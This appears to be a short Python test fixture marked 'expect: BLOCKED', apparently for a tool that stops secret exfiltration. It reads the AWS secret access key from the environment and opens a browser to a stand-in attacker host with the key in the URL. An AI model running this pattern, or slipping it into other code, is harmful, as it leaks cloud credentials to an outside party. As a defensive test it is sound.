# expect: BLOCKED
import webbrowser, os, urllib.parse
token = os.environ["AWS_SECRET_ACCESS_KEY"]
webbrowser.open("https://evil.test/?" + urllib.parse.urlencode({"t": token}))
